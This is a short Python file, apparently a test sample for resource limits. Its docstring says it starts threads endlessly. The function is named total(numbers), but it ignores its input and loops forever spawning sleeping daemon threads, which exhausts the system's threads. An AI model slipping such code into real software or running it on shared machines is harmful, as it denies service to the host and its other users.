"""Starts threads without end."""

import threading, time
from hollow import *
def total(numbers):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        except RuntimeError:
            time.sleep(0.01)
